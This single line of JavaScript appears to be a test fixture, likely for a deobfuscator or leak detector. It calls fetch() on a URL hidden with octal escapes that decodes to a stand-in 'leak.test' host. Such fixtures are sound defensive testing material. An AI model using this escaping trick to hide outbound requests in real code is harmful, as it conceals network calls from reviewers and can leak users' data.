fetch("\150ttps:\57\57js-fold-octal-escapes.leak.test/")
